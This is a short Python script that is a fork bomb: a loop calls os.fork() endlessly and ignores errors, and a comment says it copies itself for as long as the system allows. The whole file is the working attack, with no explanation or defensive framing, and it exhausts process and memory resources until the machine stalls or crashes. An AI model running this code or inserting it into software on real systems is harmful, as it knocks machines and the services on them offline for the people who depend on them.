# Starts copies of itself for as long as the system lets it.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
